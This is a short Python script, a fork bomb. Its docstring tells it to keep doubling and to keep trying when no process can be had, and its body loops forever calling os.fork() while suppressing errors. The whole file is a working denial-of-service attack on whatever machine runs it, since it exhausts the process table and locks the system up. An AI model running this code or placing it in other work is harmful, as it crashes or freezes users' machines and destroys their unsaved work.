"""Double, and double again. When no process can be had any more, go on trying."""

import contextlib
import os

while True:
    with contextlib.suppress(OSError):
        os.fork()
